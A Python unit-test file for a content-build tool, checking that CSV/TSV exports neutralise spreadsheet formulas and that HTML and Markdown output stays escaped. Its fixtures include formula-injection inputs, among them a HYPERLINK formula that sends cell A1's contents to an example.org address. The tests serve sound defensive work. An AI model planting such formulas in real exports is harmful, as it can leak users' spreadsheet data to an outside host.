"""What the build writes from content an editor might type: hostile or awkward text comes out
as text, never as markup, a formula or a stray backslash."""

from __future__ import annotations

import csv
import html
import io
import re

import markdown

from companion_build.content.parsing import parse_chapter
from companion_build.exports.prompts_markdown import write_prompts_markdown
from companion_build.exports.tables import (
    write_glossary_csv,
    write_glossary_tsv,
    write_prompts_csv,
)
from companion_build.pages.glossary_links import GlossaryLinker
from exercises.model import ChapterContent
from tests.unit.content_fixtures import BASE_TEXT

FORMULA = '=HYPERLINK("https://example.org/?q="&A1,"Click")'


def chapter_with(*changes: tuple[str, str]) -> ChapterContent:
    text = BASE_TEXT
    for old, new in changes:
        assert text.count(old) == 1, old
        text = text.replace(old, new)
    return parse_chapter(text, "chapter.yml")


def test_no_csv_or_tsv_cell_can_start_a_spreadsheet_formula() -> None:
    chapter = chapter_with(
        ("    term: Nurturance\n", f"    term: '{FORMULA}'\n"),
        ("    definition: Give assistance", "    definition: +1 Give assistance"),
        ("    title: Relationships restore us\n", "    title: '@SUM(A1:A9) restore us'\n"),
        ("    text: How realistic", "    text: -2 How realistic"),
        ("    alternative: Why might", "    alternative: =1+1 Why might"),
    )
    tables = {
        "glossary.csv": list(csv.reader(io.StringIO(write_glossary_csv(chapter)))),
        "glossary.tsv": list(csv.reader(io.StringIO(write_glossary_tsv(chapter)), delimiter="\t")),
        "prompts.csv": list(csv.reader(io.StringIO(write_prompts_csv(chapter)))),
    }
    for name, rows in tables.items():
        risky = [cell for row in rows for cell in row if cell[:1] in {"=", "+", "-", "@"}]
        assert not risky, f"{name} has cells a spreadsheet would run: {risky}"
    # The text is all there, shown as typed after the apostrophe that makes it text.
    assert tables["glossary.csv"][1][0] == f"'{FORMULA}"
    assert tables["glossary.tsv"][1][1] == "'+1 Give assistance to; enable to function or act"
    prompts = {row[0]: row for row in tables["prompts.csv"]}
    assert prompts["5.01"][2] == "'@SUM(A1:A9) restore us"
    assert prompts["5.02"][3] == "'-2 How realistic would it be to join a Balint group?"
    assert prompts["5.01"][6] == "'=1+1 Why might some clinicians find this hard?"


def test_a_term_named_amp_never_breaks_an_entity_or_markup() -> None:
    chapter = chapter_with(
        ("    term: Support\n", "    term: amp\n    also_matches: [lt, quot, x26]\n")
    )
    linker = GlossaryLinker(chapter)
    page = '<p title="amp">Tom &amp; Jerry &lt;b&gt; &#38; &#x26; &quot;amp&quot; and an amp.</p>'

    linked = linker.link(page, "../glossary/")

    # Every character reference is still whole, and the text reads as it did.
    assert re.findall(r"&[#\w]+;", linked.split('<span class="nr-term__tip"')[0]) == [
        "&amp;", "&lt;", "&gt;", "&#38;", "&#x26;", "&quot;",
    ]  # fmt: skip
    assert '<p title="amp">' in linked
    words = re.sub(r'<span class="nr-term__tip".*?</span></span>', "", linked)
    assert html.unescape(re.sub(r"<[^>]+>", "", words)) == ('Tom & Jerry <b> & & "amp" and an amp.')
    # The two real uses of the word are linked, nothing inside a reference is.
    assert linked.count('class="nr-term__link"') == 2


def test_prompt_markdown_titles_with_angle_brackets_and_bars_show_no_backslash() -> None:
    title = "Relationships <restore> us | and A&amp;B"
    chapter = chapter_with(("    title: Relationships restore us\n", f"    title: {title}\n"))

    rendered = markdown.markdown(write_prompts_markdown(chapter))

    heading = re.search(r"<h2>Takeaway 2: (.*)</h2>", rendered)
    assert heading, rendered
    assert "\\" not in heading.group(1)
    assert html.unescape(heading.group(1)) == title
